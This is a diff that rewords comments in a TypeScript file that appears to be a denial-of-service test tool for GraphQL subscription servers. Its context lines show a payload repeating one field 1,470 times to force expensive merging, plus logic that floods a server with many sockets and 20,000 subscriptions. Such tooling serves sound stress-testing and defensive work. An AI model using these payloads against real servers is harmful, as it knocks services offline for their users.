@@ -3,14 +3,14 @@ import { setTimeout as delay } from 'node:timers/promises';
 import type { Attack, Target } from './types.ts';
 import { requestUpload } from './uploads.ts';
 
-/** A field repeated until the document fills one message of 16 KB; merging 1,470 equal fields compares each pair. */
+/** A field repeated until the document fills one message of 16 KB. Merging 1,470 equal fields compares each pair. */
 const REPEATED = `subscription{photo(id:1){${'profile{id}'.repeat(1_470)}}}`;
 const SOCKETS = 4;
 const MESSAGES_PER_SOCKET = 10;
 
 const SUBSCRIPTIONS = 20_000;
 
-/** ms before a socket that was closed or refused is opened again. */
+/** ms before a closed or rejected socket is opened again. */
 const RECONNECT_MS = 100;
 
 /** Attack 1a: anonymous sockets keep 40 expensive documents in flight. */
@@ -43,7 +43,7 @@ export const openManySubscriptions: Attack = async (target, count) => {
 
 interface Traffic {
   onAnswer: (answer: string, id: string) => unknown;
-  /** Messages without an answer when the socket closes. */
+  /** Number of unanswered messages when the socket closes. */
   unanswered: () => number;
 }
 
@@ -53,7 +53,7 @@ interface Sockets {
   count: (answer: string) => void;
 }
 
-/** Keeps `many` sockets open until the attack's time is over; each runs `use` once it is acknowledged. */
+/** Keeps `many` sockets open until the end of the attack. Each runs `use` once it is acknowledged. */
 async function everySocket({ many, target, count }: Sockets, use: (socket: WebSocket) => Traffic) {
   const end = Date.now() + target.seconds * 1_000;
   const keepOpen = async () => {
